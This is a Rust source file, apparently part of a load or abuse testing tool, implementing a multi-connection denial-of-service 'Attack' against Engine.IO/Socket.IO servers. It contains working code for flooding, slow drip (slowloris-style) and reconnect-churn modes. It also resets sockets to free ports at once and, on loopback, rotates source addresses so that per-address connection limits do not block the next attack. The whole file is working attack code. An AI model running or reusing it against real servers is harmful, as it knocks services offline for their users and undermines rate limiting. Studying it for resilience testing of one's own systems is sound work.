//! The connections that abuse the target, as many as the plan says, on few threads.

use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, Ipv4Addr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use throng_codec::engine::Protocol;

use super::input::{Bytes, Input, Opening, Rhythm, Scene};
use crate::client::ClientError;
use crate::client::open::Open;
use crate::client::poller::Poller;
use crate::client::rest::Rest;
use crate::client::target::Target;
use crate::client::transcript::{Log, Transcript};
use crate::client::websocket::RawSocket;

const WORKERS: usize = 2;
const LOWEST_PRIORITY: i32 = 19;
/// What one connection may send in one turn, so that none keeps the others waiting.
const TURN_BYTES_MAX: usize = 256 * 1024;
const ANSWER_WAIT: Duration = Duration::from_secs(5);
/// Nothing could be done on any connection: the server does not read.
const PAUSE: Duration = Duration::from_millis(2);
const DRIP: Duration = Duration::from_millis(200);
/// A refused connection is tried again.
const RETRY: Duration = Duration::from_millis(50);

/// What the attack depends on besides its input.
pub struct Setting {
    pub target: Target,
    pub protocol: Protocol,
    pub max_payload: usize,
    /// The e-mail address of a user who exists.
    pub email: String,
    pub connections: u32,
    /// Which addresses it comes from, if there are several: a limit per address that one attack has
    /// exhausted must not keep out the next.
    pub block: u8,
}

struct Shared {
    input: Input,
    setting: Setting,
    /// `Bytes::Same`, made once.
    same: Option<Arc<[u8]>>,
    log: Log,
    stopped: AtomicBool,
    released: AtomicBool,
    serial: AtomicU64,
    opened: AtomicU64,
    refused: AtomicU64,
    ended: AtomicU64,
    bytes: AtomicU64,
}

/// An attack that goes on until it is stopped; its connections stay open until it is dropped.
pub struct Attack {
    shared: Arc<Shared>,
    workers: Vec<JoinHandle<()>>,
}

/// What an attack came to.
#[derive(Clone, Copy, Debug)]
pub struct Tally {
    pub opened: u64,
    pub refused: u64,
    /// Ended by the server.
    pub ended: u64,
    pub bytes: u64,
}

impl Attack {
    pub fn start(input: &Input, setting: Setting) -> Attack {
        let same = match input.bytes {
            Bytes::Same(make) => Some(make(&scene(&setting, "", 0)).into()),
            Bytes::Fresh(_) => None,
        };
        let shared = Arc::new(Shared {
            input: *input,
            setting,
            same,
            log: Transcript::default().log("abuse"),
            stopped: AtomicBool::new(false),
            released: AtomicBool::new(false),
            serial: AtomicU64::new(1),
            opened: AtomicU64::new(0),
            refused: AtomicU64::new(0),
            ended: AtomicU64::new(0),
            bytes: AtomicU64::new(0),
        });
        let worker = |first: usize| {
            let shared = shared.clone();
            thread::spawn(move || work(&shared, first))
        };
        let workers = (0..WORKERS).map(worker).collect();
        Attack { shared, workers }
    }

    /// Sends nothing more.
    pub fn stop(&self) {
        self.shared.stopped.store(true, Ordering::Relaxed);
    }

    pub fn tally(&self) -> Tally {
        let read = |counter: &AtomicU64| counter.load(Ordering::Relaxed);
        let Shared { opened, refused, ended, bytes, .. } = &*self.shared;
        Tally {
            opened: read(opened),
            refused: read(refused),
            ended: read(ended),
            bytes: read(bytes),
        }
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.stop();
        self.shared.released.store(true, Ordering::Relaxed);
        for worker in self.workers.drain(..) {
            let _ = worker.join();
        }
    }
}

fn scene<'a>(setting: &'a Setting, sid: &'a str, serial: u64) -> Scene<'a> {
    let Setting { target, protocol, max_payload, email, .. } = setting;
    Scene { target, protocol: *protocol, sid, serial, max_payload: *max_payload, email }
}

/// One thread: the connections with every `WORKERS`-th number.
fn work(shared: &Shared, first: usize) {
    // What others notice is judged, not who gets the processor that all of them share here.
    let _ = rustix::process::setpriority_process(Some(rustix::thread::gettid()), LOWEST_PRIORITY);
    let mut slots: Vec<Slot> = (0..shared.setting.connections)
        .skip(first)
        .step_by(WORKERS)
        .map(|index| Slot { index, held: None, retry_at: Instant::now() })
        .collect();
    while !shared.released.load(Ordering::Relaxed) {
        let mut is_busy = false;
        for slot in &mut slots {
            if shared.stopped.load(Ordering::Relaxed) {
                break;
            }
            is_busy |= slot.turn(shared);
        }
        if !is_busy || shared.stopped.load(Ordering::Relaxed) {
            thread::sleep(PAUSE);
        }
    }
}

/// A place for a connection.
struct Slot {
    index: u32,
    held: Option<Held>,
    retry_at: Instant,
}

struct Held {
    stream: TcpStream,
    sid: String,
    /// What is being sent, and how much of it has been.
    out: Arc<[u8]>,
    at: usize,
    /// Whether the bytes of the input were taken once.
    begun: bool,
    touched: Instant,
}

/// The server ended the connection.
struct Ended;

impl Slot {
    /// Opens a connection or sends on it; whether anything was done.
    fn turn(&mut self, shared: &Shared) -> bool {
        let now = Instant::now();
        let Some(held) = &mut self.held else {
            if now < self.retry_at {
                return false;
            }
            match open(shared, self.index) {
                Ok(held) => {
                    shared.opened.fetch_add(1, Ordering::Relaxed);
                    self.held = Some(held);
                }
                Err(_) => {
                    shared.refused.fetch_add(1, Ordering::Relaxed);
                    self.retry_at = Instant::now() + RETRY;
                }
            }
            return true;
        };
        if let Rhythm::Reopen(after) = shared.input.rhythm
            && held.is_done()
            && held.touched.elapsed() >= after
        {
            self.held = None;
            return true;
        }
        let read = held.read(shared);
        match read.and_then(|read| Ok(held.write(shared)? || read)) {
            Ok(is_busy) => is_busy,
            Err(Ended) => {
                shared.ended.fetch_add(1, Ordering::Relaxed);
                self.held = None;
                true
            }
        }
    }
}

impl Held {
    fn is_done(&self) -> bool {
        self.begun && self.at == self.out.len()
    }

    /// Reads the answers, or only looks whether the connection has ended.
    fn read(&mut self, shared: &Shared) -> Result<bool, Ended> {
        let mut chunk = [0; 64 * 1024];
        let read = match shared.input.reads {
            true => self.stream.read(&mut chunk),
            false => self.stream.peek(&mut chunk[..1]),
        };
        match read {
            Ok(0) => Err(Ended),
            Ok(_) => Ok(shared.input.reads),
            Err(why) if is_not_yet(why.kind()) => Ok(false),
            Err(_) => Err(Ended),
        }
    }

    fn write(&mut self, shared: &Shared) -> Result<bool, Ended> {
        let mut written = 0;
        while written < TURN_BYTES_MAX {
            if self.at == self.out.len() && !self.refill(shared) {
                break;
            }
            let end = self.out.len().min(self.at + TURN_BYTES_MAX);
            match self.stream.write(&self.out[self.at..end]) {
                Ok(0) => return Err(Ended),
                Ok(count) => {
                    self.at += count;
                    written += count;
                    self.touched = Instant::now();
                }
                Err(why) if is_not_yet(why.kind()) => break,
                Err(_) => return Err(Ended),
            }
        }
        shared.bytes.fetch_add(written as u64, Ordering::Relaxed);
        Ok(written > 0)
    }

    /// Takes the next bytes, if the rhythm has any.
    fn refill(&mut self, shared: &Shared) -> bool {
        let next: Arc<[u8]> = match shared.input.rhythm {
            _ if !self.begun => self.next(shared),
            Rhythm::Flood => self.next(shared),
            Rhythm::Drip(bytes) if self.touched.elapsed() >= DRIP => bytes.into(),
            Rhythm::Drip(_) | Rhythm::Once | Rhythm::Reopen(_) => return false,
        };
        self.begun = true;
        (self.out, self.at) = (next, 0);
        !self.out.is_empty()
    }

    fn next(&self, shared: &Shared) -> Arc<[u8]> {
        match (&shared.same, shared.input.bytes) {
            (Some(same), _) => same.clone(),
            (None, Bytes::Same(make) | Bytes::Fresh(make)) => {
                let serial = shared.serial.fetch_add(1, Ordering::Relaxed);
                make(&scene(&shared.setting, &self.sid, serial)).into()
            }
        }
    }
}

fn is_not_yet(kind: ErrorKind) -> bool {
    matches!(kind, ErrorKind::WouldBlock | ErrorKind::Interrupted)
}

fn open(shared: &Shared, index: u32) -> Result<Held, ClientError> {
    let Shared { setting, input, log, .. } = shared;
    let serial = shared.serial.fetch_add(1, Ordering::Relaxed);
    // Where each connection has an address of its own, so has each that replaces it.
    let group = if input.per_address == 1 { serial as u32 } else { index / input.per_address };
    let target = setting.target.from_address(address(setting, group));
    let (stream, sid) = open_as(input.opening, &target, setting.protocol, log)?;
    // Closed by a reset: ports of closed connections are free at once.
    let _ = socket2::SockRef::from(&stream).set_linger(Some(Duration::ZERO));
    stream.set_nonblocking(true)?;
    let out = Arc::from([]);
    Ok(Held { stream, sid, out, at: 0, begun: false, touched: Instant::now() })
}

/// An address of an attacker: a loopback has many, any other machine one.
fn address(setting: &Setting, group: u32) -> Option<IpAddr> {
    let is_loopback = matches!(setting.target.addr.ip(), IpAddr::V4(ip) if ip.is_loopback());
    let [_, _, high, low] = group.to_be_bytes();
    // 127.0.0.1 is that of the others.
    is_loopback.then(|| Ipv4Addr::new(127, 64 + setting.block % 128, high, low.max(1)).into())
}

fn open_as(
    opening: Opening,
    target: &Target,
    protocol: Protocol,
    log: &Log,
) -> Result<(TcpStream, String), ClientError> {
    let path = |transport: &str| {
        format!("{}?EIO={}&transport={transport}", target.engine_path, protocol.number())
    };
    let polling = || {
        let rest = Rest { target: target.clone(), log: log.clone() };
        Poller::open(rest, protocol, &path("polling"), None)
    };
    match opening {
        Opening::Tcp => Ok((target.dial()?, String::new())),
        Opening::Websocket | Opening::Connected => {
            let mut socket = RawSocket::open(target, &path("websocket"), log)?;
            let first = socket.receive_text(ANSWER_WAIT)?;
            let open = Open::parse(first.strip_prefix('0').unwrap_or(&first))?;
            if protocol == Protocol::Eio4 && opening == Opening::Connected {
                socket.send("40")?;
            }
            if protocol == Protocol::Eio3 || opening == Opening::Connected {
                socket.receive_where(ANSWER_WAIT, |text| text.starts_with("40"))?;
            }
            Ok((socket.into_stream(), open.sid))
        }
        Opening::Polling => {
            let poller = polling()?;
            poller.connect()?;
            Ok((target.dial()?, poller.into_sid()))
        }
        Opening::Probing => {
            let poller = polling()?;
            let mut socket = RawSocket::open(target, &poller.websocket_path(), log)?;
            socket.send("2probe")?;
            socket.receive_where(ANSWER_WAIT, |text| text == "3probe")?;
            Ok((socket.into_stream(), poller.into_sid()))
        }
    }
}
